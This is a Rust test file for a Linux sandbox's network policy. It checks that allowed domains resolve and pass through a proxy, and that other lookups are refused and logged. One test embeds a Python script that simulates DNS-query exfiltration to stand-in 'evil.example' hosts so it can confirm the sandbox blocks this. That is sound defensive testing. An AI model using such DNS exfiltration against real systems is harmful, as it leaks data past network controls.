//! Listed hosts, reached by programs that know no proxy: names are found in the run, and what is connected to
//! is led to the proxy. Connections go out by a proxy of the test's, which leads every name to the server of
//! the test and tells which ones it was asked for; `*.localhost` leads to loopback by itself.
#![cfg(target_os = "linux")]

mod support;

use serde_json::{Value, json};
use std::net::Ipv4Addr;
use std::process::Stdio;
use support::have::have;
use support::internet::{bare, boxed, internet};
use support::names::{ANYWHERE, ASK, CONNECT, FIRST, PYTHON, answered_anywhere, upstream};
use support::net::answering;
use support::{Bed, Run, finish, without_namespaces};

fn policy(network: Value) -> Value {
    json!({"filesystem": {"allowWrite": ["{in}"]}, "network": network})
}

/// Without the variables that tell of the proxy.
fn silent(mut network: Value) -> Value {
    network["proxyEnvironment"] = false.into();
    policy(network)
}

/// A program in a sandbox whose connections go out by `url`.
fn launch(url: &str, network: Value, program: &[&str]) -> Run {
    let bed = Bed::new(&[]);
    let mut command = bed.sandboxed(&silent(network), &[], program);
    command.env("ALL_PROXY", url);
    finish(command, &bed.root().join("traps"))
}

fn python(url: &str, network: Value, script: &str) -> Run {
    launch(url, network, &[PYTHON, "-c", script])
}

/// Whether names can be found in a run here, by these programs.
fn names(what: &str, needs: &[&str]) -> bool {
    have(what, &["netns"]) && have(what, needs)
}

/// The protocols, targets and reasons of traps.
fn told(run: &Run) -> Vec<[String; 3]> {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let of =
        |trap: &Value| [&trap["arguments"]["protocol"], &trap["target"], &trap["reason"]].map(text);
    run.traps.iter().map(of).collect()
}

#[test]
fn a_listed_name_is_found_and_reached_without_a_proxy() {
    if !names("names", &[PYTHON]) {
        return;
    }
    let (url, asked) = upstream(answering("server"));
    let network = json!({"allowedDomains": ["listed.example", "*.below.example:444"],
        "deniedDomains": ["no.below.example"]});
    let hosts = ["listed.example:25", "a.below.example:444", "a.below.example:445"];
    let run = launch(&url, network.clone(), &[&[PYTHON, "-c", CONNECT], &hosts[..]].concat());
    let six = have("names by IPv6", &["ipv6"]);
    let ways = |name: &str, result: &str| {
        let mut lines =
            ["blocking", "waiting"].map(|way| format!("{name} AF_INET {way} {result}")).to_vec();
        if six {
            lines.push(format!("{name} AF_INET mapped {result}"));
            lines.extend(["blocking", "waiting"].map(|w| format!("{name} AF_INET6 {w} {result}")));
        }
        lines
    };
    let expected = [
        ways("listed.example", "server"),
        ways("a.below.example", "server"),
        // Connected to the proxy, which resets it.
        ways("a.below.example", "104"),
    ];
    assert_eq!(run.lines, expected.concat(), "{run:?}");
    let each = if six { 5 } else { 2 };
    let asked: Vec<String> = asked.try_iter().collect();
    assert_eq!(asked.iter().filter(|to| *to == "listed.example:25").count(), each, "{asked:?}");
    assert_eq!(asked.len(), 2 * each, "{asked:?}");
    assert_eq!(told(&run), vec![["tcp", "a.below.example:445", "allow_miss"]; each], "{run:?}");
    assert_eq!(run.traps[0]["suggested_grant"], json!({"allowedDomains": "a.below.example:445"}));
    // Others do not exist.
    let hosts = ["other.example:80", "no.below.example:444", "below.example:444"];
    let run = launch(&url, network, &[&[PYTHON, "-c", CONNECT], &hosts[..]].concat());
    assert_eq!(run.lines, hosts.map(|host| format!("{host} gaierror -2")), "{run:?}");
    let expected = [
        ["dns", "other.example", "allow_miss"],
        ["dns", "no.below.example", "deny_match"],
        ["dns", "below.example", "allow_miss"],
    ];
    for trap in told(&run) {
        assert!(expected.iter().any(|e| *e == trap), "{run:?}");
    }
    for expected in expected {
        assert!(told(&run).iter().any(|trap| *trap == expected), "{expected:?}: {run:?}");
    }
    let trap = &run.traps[0];
    assert_eq!(trap["suggested_grant"], json!({"allowedDomains": "other.example"}), "{trap}");
    assert!(trap["process"]["exe"].as_str().is_some_and(|exe| exe.contains("python")), "{trap}");
    // No system call is refused: the answer is.
    assert_eq!((&trap["operation"], &trap["mechanism"]), (&json!("resolve"), &json!("proxy")));
    assert_eq!((&trap["syscall"], &trap["errno"]), (&Value::Null, &Value::Null), "{trap}");
    assert_eq!(run.traps.last().expect("a trap")["kind"], "network");
}

/// The name is looked up by the proxy, when it is connected to.
#[test]
fn a_name_leads_where_the_host_finds_it() {
    if !names("names", &[PYTHON]) {
        return;
    }
    let port = answering("server");
    let network = json!({"allowedDomains": [format!("a.localhost:{port}"), "none.invalid"]});
    let bed = Bed::new(&[]);
    let hosts = [format!("a.localhost:{port}"), "none.invalid:80".to_owned()];
    let run =
        bed.launch(&silent(network.clone()), &[], &[PYTHON, "-c", CONNECT, &hosts[0], &hosts[1]]);
    assert!(run.lines[0].starts_with("a.localhost AF_INET blocking server"), "{run:?}");
    // Found, and reset once it turns out that it is nowhere.
    assert!(run.lines.iter().any(|line| line == "none.invalid AF_INET blocking 104"), "{run:?}");
    assert_eq!(told(&run)[0], ["tcp", "none.invalid:80", ""], "{run:?}");
    let message = run.traps[0]["message"].as_str().expect("a message");
    assert!(message.starts_with("it is not reached: "), "{run:?}");
    // The control: without a namespace, no name is found.
    let run = without_namespaces(|| {
        Bed::new(&[]).launch(&silent(network), &[], &[PYTHON, "-c", CONNECT, &hosts[0]])
    });
    assert!(run.lines[0].contains("gaierror"), "{run:?}");
}

/// curl, without a proxy: a name, plain and by TLS, where what it says inside has to be that name.
#[test]
fn curl_needs_no_proxy() {
    if !names("curl", &["cmd:curl", "cmd:openssl", PYTHON]) {
        return;
    }
    let bed = Bed::new(&[]);
    let openssl = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
        -subj /CN=test -addext subjectAltName=DNS:listed.example,DNS:other.example \
        -keyout {out}/key -out {out}/cert 2>&1";
    bed.must(&[&format!("sh {openssl}")]);
    let tls = bed.fill(
        "import socket, ssl
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
c.load_cert_chain('{out}/cert', '{out}/key')
l = socket.create_server(('127.0.0.1', 0)); print(l.getsockname()[1], flush=True)
while True:
    try:
        s = c.wrap_socket(l.accept()[0], server_side=True)
        s.recv(4096); s.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\nby tls'); s.unwrap()
    except OSError: pass
",
    );
    let mut tls = std::process::Command::new(PYTHON)
        .args(["-c", &tls])
        .stdout(Stdio::piped())
        .spawn()
        .expect("a server");
    let mut line = String::new();
    let out = tls.stdout.take().expect("its output");
    std::io::BufRead::read_line(&mut std::io::BufReader::new(out), &mut line).expect("a port");
    let (plain, plain_asked) = upstream(answering("server"));
    let (by_tls, tls_asked) = upstream(line.trim().parse().expect("a port"));
    let get = |url: &str, options: &str| {
        let network = json!({"allowedDomains": ["listed.example"]});
        let script = format!(
            "curl -sS -m 20 --noproxy '*' --cacert {{out}}/cert {options} {url} 2>&1; echo \" $?\""
        );
        let mut command = bed.sandboxed(&silent(network), &[], &["sh", "-c", &script]);
        command.env("http_proxy", &plain).env("https_proxy", &by_tls);
        finish(command, &bed.root().join("traps"))
    };
    let run = get("http://listed.example/", "");
    assert_eq!(run.lines, ["server 0"], "{run:?}");
    let run = get("http://listed.example/", "-6");
    assert!(run.lines == ["server 0"] || !have("IPv6", &["ipv6"]), "{run:?}");
    let run = get("https://listed.example/", "");
    assert_eq!(run.lines, ["by tls 0"], "{run:?}");
    assert!(plain_asked.try_iter().all(|to| to == "listed.example:80"));
    assert_eq!(tls_asked.try_iter().collect::<Vec<_>>(), ["listed.example:443"]);
    // Another host's name in a connection to this one.
    let run = get("https://other.example/", "--connect-to other.example:443:listed.example:443");
    assert!(run.lines.last().is_some_and(|line| line.ends_with(" 35")), "{run:?}");
    let message = run.traps[0]["message"].as_str().expect("a message");
    assert!(message.contains("other.example"), "{run:?}");
    let run = get("https://other.example/", "");
    assert!(run.lines.last().is_some_and(|line| line.ends_with(" 6")), "{run:?}");
    tls.kill().expect("kill");
    tls.wait().expect("its end");
}

/// Programs with a resolver of another library: that of the probe, which is musl's where that is what is tested,
/// and busybox.
#[test]
fn other_resolvers_find_names_too() {
    if !names("other resolvers", &[]) {
        return;
    }
    let (url, _asked) = upstream(answering("server"));
    let network = json!({"allowedDomains": ["listed.example"]});
    let probe = support::probe().display().to_string();
    let run = launch(
        &url,
        network.clone(),
        &[&probe, "fetch listed.example:8080", "fetch other.example:8080"],
    );
    assert_eq!(run.lines[0], "ok HTTP/1.0 200 OK", "{run:?}");
    assert!(!run.lines[1].starts_with("ok"), "{run:?}");
    if have("busybox", &["/bin/busybox"]) {
        let script = "/bin/busybox nslookup listed.example 203.0.113.9 | grep -c 'Address.*198.18'
/bin/busybox nslookup other.example 203.0.113.9 2>&1 | grep -c -i NXDOMAIN
/bin/busybox wget -q -O - http://listed.example:8000/; echo";
        let run = launch(&url, network, &["sh", "-c", script]);
        assert_eq!(run.lines[0], "1", "{run:?}");
        assert_ne!(run.lines[1], "0", "{run:?}");
        assert_eq!(run.lines[2], "server", "{run:?}");
    }
}

fn ask(network: Value, script: &str) -> Run {
    let (url, _) = upstream(answering("server"));
    python(&url, network, &format!("{ASK}{script}"))
}

#[test]
fn questions_are_answered_in_the_run() {
    if !names("questions", &[PYTHON]) {
        return;
    }
    let network = json!({"allowedDomains": ["listed.example", "*.listed.example:443"]});
    let run = ask(
        network.clone(),
        r#"
for q in [question(b'listed.example'), question(b'LiStEd.eXample'), question(b'listed.example', 28),
    question(b'listed.example', 255), question(b'listed.example', 15), question(b'listed.example', 65),
    question(b'a.listed.example'), question(b'_http._tcp.listed.example', 33), question(b''),
    question(b'localhost'), question(b'localhost', 28),
    question(b'listed.example', more=b'\0\0\x29\x04\xd0\0\0\0\0\0\0', counts=(1, 0, 0, 1)),
    question(b'other.example'), question(b'other.example', 16), question(b'secret._x.example', 16),
    question(b'listed\x01example'), question(b'1.0.18.198.in-addr.arpa', 12), question(b'203.0.113.1'),
    question(b'listed.example', cls=3), question(b'listed.example', flags=0x2900),
    question(b'listed.example', counts=(2, 0, 0, 0)), question(b'listed.example', counts=(1, 65535, 65535, 65535)),
    question(b'listed.example')[:14], question(b'listed.example')[:12],
]: print(show(udp(q)))
assert name(b'LiStEd.eXample') in udp(question(b'LiStEd.eXample'))
assert b'\0\0\x29' in udp(question(b'listed.example', more=b'\0\0\x29\x04\xd0\0\0\0\0\0\0', counts=(1, 0, 0, 1)))
"#,
    );
    let six = "fd00:6c61:6e64:7374::1";
    let expected = [
        "0 1 198.18.0.1",
        "0 1 198.18.0.1",
        &format!("0 1 {six}"),
        &format!("0 2 198.18.0.1 {six}"),
        "0 0",
        "0 0",
        "0 1 198.18.0.2",
        "0 0",
        "0 0",
        "0 1 127.0.0.1",
        "0 1 ::1",
        "0 1 198.18.0.1",
        "3 0",
        "3 0",
        "3 0",
        "3 0",
        "3 0",
        "3 0",
        "5 0",
        "4 0",
        "1 0",
        "1 0",
        "1 0",
        "1 0",
    ];
    assert_eq!(run.lines, expected, "{run:?}");
    let told: Vec<String> = told(&run).into_iter().map(|[_, target, _]| target).collect();
    for host in ["other.example", "secret._x.example"] {
        assert!(told.iter().any(|target| target == host), "{host}: {told:?}");
    }
    assert!(!told.iter().any(|target| target.contains("arpa")), "{told:?}");
    // Every address is a name server, whichever way it is asked; what is no question has no answer.
    let script = r#"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)
s.connect(('203.0.113.53', 53)); s.send(b'\0\x08' + question(b'listed.example', flags=0x8100)[2:]); s.send(b'x'); s.send(q)
print(show(s.recv(4096)))
"#;
    let run = ask(network, &[ANYWHERE, script].concat());
    let mut expected = answered_anywhere();
    expected.push(FIRST.to_owned());
    assert_eq!(run.lines, expected, "{run:?}");
}

/// What UDP is for where hosts are listed, and what it is not.
#[test]
fn datagrams_reach_nothing_but_answers() {
    if !names("datagrams", &[PYTHON]) {
        return;
    }
    let udp = std::net::UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).expect("bind");
    let port = udp.local_addr().expect("address").port();
    let script = format!(
        r#"
def attempt(work):
    try: return work()
    except OSError as e: return e.errno
def make(): return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp(question(b'listed.example'))
def send(address):
    # The second hears what became of the first.
    s = make(); s.settimeout(20); s.setsockopt(socket.IPPROTO_IP, 11, 1)
    s.sendto(b'x', address)
    return s.recv(9)
print(attempt(lambda: make().connect(('198.18.0.1', 443))))
# As musl does to see whether there is IPv4.
print(attempt(lambda: make().connect(('127.0.0.1', 65535))))
print(attempt(lambda: make().connect(('203.0.113.1', 443))))
print(attempt(lambda: make().connect(('127.0.0.1', {port}))))
print(attempt(lambda: send(('127.0.0.1', {port}))))
print(attempt(lambda: send(('203.0.113.1', 443))))
print(attempt(lambda: make().bind(('0.0.0.0', 0))))
print(attempt(lambda: make().bind(('0.0.0.0', 5353))))
print(attempt(lambda: make().bind(('203.0.113.1', 0))))
print(attempt(lambda: make().bind(('127.0.0.1', 0))))
print(attempt(lambda: socket.socket().connect(('203.0.113.1', 443))))
print(attempt(lambda: socket.socket().bind(('0.0.0.0', 0))))
print(attempt(lambda: socket.socket().connect(('198.18.9.9', 443))))
s = socket.socket()
print(attempt(lambda: s.sendto(b'x', 0x20000000, ('198.18.0.1', 443))))
print(attempt(lambda: socket.socket().connect(('fd00:6c61:6e64:7374::1', 443))))
print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 17)))
"#
    );
    let run = ask(json!({"allowedDomains": ["listed.example"]}), &script);
    let expected = ["None", "None", "13", "13", "111", "111", "None", "13", "13", "13", "13", "13"];
    assert_eq!(run.lines[..expected.len()], expected, "{run:?}");
    // An address that no name has: led to the proxy, which knows none, and resets it.
    assert_eq!(run.lines[12], "None", "{run:?}");
    assert_eq!(run.lines[13], "13", "{run:?}");
    assert_ne!(run.lines[14], "None", "{run:?}");
    assert_eq!(run.lines[15], "13", "{run:?}");
    udp.set_nonblocking(true).expect("nonblocking");
    assert!(udp.recv(&mut [0; 9]).is_err(), "nothing came out");
}

/// What a program asks name servers, in every way that it has. The addresses are those of the test's server.
const TELL: &str = r#"
import os, sys
for text in 'secret.evil.example', 'other.secret.listed.example':
    try: socket.getaddrinfo(text, 80)
    except OSError: pass
for kind in 1, 16, 255:
    for connect in True, False:
        try: udp(question(b'raw%d.evil.example' % kind, kind), ('127.0.0.1', 53), connect=connect)
        except OSError: pass
try:
    s = socket.create_connection(('127.0.0.1', 53)); s.sendall(b'\0\x22' + question(b'tcp.evil.example')[:34]); s.close()
except OSError: pass
if 'HTTP_PROXY' in os.environ:
    s = socket.create_connection(('127.0.0.1', int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1])))
    s.sendall(b'CONNECT asked.evil.example:443 HTTP/1.1\r\n\r\n'); s.recv(99)
# Last, so that what came before has arrived by then.
s = socket.create_connection(('listed.example', 80)); s.sendall(b'GET / HTTP/1.0\r\n\r\n'); print(s.recv(9).decode())
"#;

/// A name server that writes down the names that it is asked for, and has one address for most of them; and a server
/// at that address. Prints their numbers once they are there.
const SERVE: &str = r#"
import os, socket, struct, sys
log = open(sys.argv[1], 'a', buffering=1)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.bind(('127.0.0.1', 53))
l = socket.create_server(('192.0.2.80', 80))
one = os.fork()
if one == 0:
    while True:
        c, _ = l.accept()
        if c.recv(9): c.sendall(b'server')
        c.close()
other = os.fork()
if other == 0:
    while True:
        q, who = d.recvfrom(999)
        at, labels = 12, []
        while q[at]: labels.append(q[at + 1:at + 1 + q[at]].decode()); at += 1 + q[at]
        log.write('.'.join(labels).lower() + '\n')
        kind = q[at + 1:at + 3]
        end = at + 5
        searched = labels[-2:] == ['corp', 'example']
        found = kind == b'\0\1' and not searched
        answer = q[:2] + bytes([0x81, 0x83 if searched else 0x80, 0, 1]) + struct.pack('!3H', found, 0, 0) + q[12:end]
        if found: answer += b'\xc0\x0c\0\1\0\1\0\0\0\0\0\4' + socket.inet_aton('192.0.2.80')
        d.sendto(answer, who)
print(one, other)
"#;

/// Exfiltration by questions to name servers: the host's hears of a listed name, once it is connected to, and of no
/// other one. As the control, the same without a sandbox tells it everything.
#[test]
fn no_question_leaves_but_about_what_is_connected_to() {
    let needs = [PYTHON, "userns", "cmd:unshare", "cmd:ip"];
    if !names("exfiltration by names", &needs) {
        return;
    }
    let bed = Bed::new(&[]);
    let policy = bed.policy(&policy(json!({"allowedDomains": ["listed.example"]})));
    let write = |name: &str, text: &str| {
        std::fs::write(bed.root().join("out").join(name), text).expect("write");
    };
    write("serve.py", SERVE);
    write("tell.py", &format!("{ASK}{TELL}"));
    write("resolv.conf", "nameserver 127.0.0.1\nsearch corp.example\noptions ndots:3\n");
    let script = bed.fill(&format!(
        "ip link set lo up && ip address add 192.0.2.80/32 dev lo &&
mount --bind {{out}}/resolv.conf /etc/resolv.conf && {PYTHON} {{out}}/serve.py {{out}}/log > {{out}}/pids &&
\"$@\"; kill $(cat {{out}}/pids)"
    ));
    let run = |words: &[&str]| -> (Run, Vec<String>) {
        write("log", "");
        let mut command = bed.command("/usr/bin/unshare".as_ref());
        let shell = ["-Urnm", "sh", "-c", &script, "sh"];
        command.args(shell).args(words.iter().map(|word| bed.fill(word)));
        let run = finish(command, &bed.root().join("traps"));
        let log = std::fs::read_to_string(bed.root().join("out/log")).expect("the log");
        (run, log.lines().map(str::to_owned).collect())
    };
    let tell = [PYTHON, "{out}/tell.py"];
    let (bare, heard) = run(&tell);
    assert_eq!(bare.lines, ["server"], "{bare:?}");
    for name in ["secret.evil.example", "raw16.evil.example", "listed.example"] {
        assert!(heard.iter().any(|line| line == name), "the control: {name}: {heard:?}");
    }
    let policy = policy.display().to_string();
    let traps = bed.fill("3>{root}/traps");
    let probe = support::probe().display().to_string();
    let sandbox = [
        &probe,
        "@spawn",
        &traps,
        "--",
        support::LANDSTRIP,
        "run",
        support::ACCEPT,
        "--trap-fd",
        "3",
        "-p",
        &policy,
        "--",
    ];
    let (run, heard) = run(&[&sandbox[..], &tell].concat());
    assert_eq!(run.lines, ["server"], "{run:?}");
    assert_eq!(heard, ["listed.example"; 2], "of both kinds: {run:?}");
    let told: Vec<String> = told(&run).into_iter().map(|[_, target, _]| target).collect();
    for name in ["secret.evil.example", "raw16.evil.example", "asked.evil.example:443"] {
        assert!(told.iter().any(|target| target == name), "{name}: {told:?}");
    }
    // What a resolver makes of a listed name is no refusal.
    assert!(!told.iter().any(|target| target.starts_with("listed.example")), "{told:?}");
}

/// Many at once, each by a thread of its own: what is said of a connection is there when it arrives.
#[test]
fn many_connections_at_once_are_known_to_the_proxy() {
    if !names("many connections", &[PYTHON]) {
        return;
    }
    let (url, _asked) = upstream(answering("server"));
    let script = "
import socket, threading
out, ready = [], threading.Barrier(60)
def one(i):
    ready.wait()
    for j in range(5):
        try:
            s = socket.create_connection(('h%d.listed.example' % i, 80), 60)
            s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); out.append(s.recv(4))
        except OSError as e: out.append(e.errno)
ts = [threading.Thread(target=one, args=(i,)) for i in range(60)]
for t in ts: t.start()
for t in ts: t.join()
print(len(out), set(out))
";
    let run = python(&url, json!({"allowedDomains": ["*.listed.example"]}), script);
    assert_eq!(run.lines, ["300 {b'HTTP'}"], "{run:?}");
}

/// A socket that is bound by the program itself, to every address, is the run's too.
#[test]
fn a_bound_socket_is_known_to_the_proxy() {
    if !names("bound sockets", &[PYTHON]) {
        return;
    }
    let (url, _asked) = upstream(answering("server"));
    let network = json!({"allowedDomains": ["listed.example"], "allowLocalBinding": true});
    let script = "
import socket
for own in '0.0.0.0', '127.0.0.7':
    s = socket.socket(); s.bind((own, 0)); s.connect((socket.gethostbyname('listed.example'), 80))
    s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(8).decode(), s.getpeername()[0])
a, b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
a.bind(('127.0.0.1', 0)); b.sendto(b'x', a.getsockname()); print(a.recv(9))
try: a.bind(('0.0.0.0', 53))
except OSError as e: print(e.errno)
";
    let run = python(&url, network, script);
    assert_eq!(run.lines, ["HTTP/1.0 127.0.0.1", "HTTP/1.0 127.0.0.1", "b'x'", "22"], "{run:?}");
}

#[test]
fn the_plan_and_why_say_how_names_are_found() {
    let bed = Bed::new(&[]);
    let policy = bed.policy(&policy(json!({"allowedDomains": ["listed.example", "192.0.2.1"]})));
    let ask = |refuse: &[&str], words: &[&str]| -> Value {
        let mut command = bed.command(&support::probe());
        command.arg("@spawn").args(refuse).args(["--", support::LANDSTRIP]).args(words);
        command.args(["--format", "json", "-p"]).arg(&policy);
        let output = command.output().expect("an answer");
        serde_json::from_slice(&output.stdout).expect("JSON")
    };
    let notes = |refuse: &[&str]| {
        let plan = ask(refuse, &["policy", "plan"]);
        let lines = plan["lines"].as_array().expect("lines").clone();
        let of = |key: &str| {
            let line = lines.iter().find(|line| line["origin"]["key"] == key).expect("the line");
            line["note"].as_str().unwrap_or_default().to_owned()
        };
        let why = ask(refuse, &["why", "listed.example"])["connect"]["note"].clone();
        let why = why.as_str().unwrap_or_default().to_owned();
        (of("network.allowedDomains[0]"), of("network.allowedDomains[1]"), why)
    };
    let (named, address, why) = notes(&[support::FORBIDDEN]);
    assert!(named.contains("no network namespace") && address.is_empty(), "{named} {address}");
    assert!(why.contains("no network namespace") && why.contains("EPERM"), "{why}");
    if names("the plan", &[]) {
        let (named, _, why) = notes(&[]);
        assert!(named.contains("every program") && why == named, "{named} {why}");
    }
}

/// A resolver takes a name of hosts(5) for its address, and the connection still means the name; in the host's network
/// namespace, too.
#[test]
fn a_name_of_the_file_of_hosts_is_reached() {
    if !internet("names of /etc/hosts") {
        return;
    }
    let script = "for host in hosts.example also.example closed.example 203.0.113.1; do
        curl -sSf -m 20 --noproxy '*' http://$host/x >&2 && echo $host reached || echo $host not
    done";
    let lines = |reached: [&str; 4]| {
        let hosts = ["hosts.example", "also.example", "closed.example", "203.0.113.1"];
        hosts
            .into_iter()
            .zip(reached)
            .map(|(host, end)| format!("{host} {end}"))
            .collect::<Vec<_>>()
    };
    let run = bare(&Bed::new(&[]), script);
    assert_eq!(run.lines, lines(["reached"; 4]), "the control: {run:?}");
    let network = json!({"allowedDomains": ["hosts.example", "also.example"]});
    let check = |run: Run| {
        assert_eq!(run.lines, lines(["reached", "reached", "not", "not"]), "{run:?}");
        let says = |trap: &Value| trap["message"].as_str().unwrap_or_default().to_owned();
        let said: Vec<String> = run.traps.iter().map(says).collect();
        for other in ["closed.example", "203.0.113.1"] {
            let message = format!("in it, the client names {other} instead");
            assert!(said.contains(&message), "{other}: {said:?}");
        }
    };
    check(boxed(&Bed::new(&[]), &network, script));
    check(without_namespaces(|| boxed(&Bed::new(&[]), &network, script)));
    // One that is not listed has an address that nothing leads to.
    let run = boxed(&Bed::new(&[]), &json!({"allowedDomains": ["listed.example"]}), script);
    assert_eq!(run.lines, lines(["not"; 4]), "{run:?}");
    assert!(run.traps.iter().any(|trap| trap["target"] == "203.0.113.1:80"), "{run:?}");
}
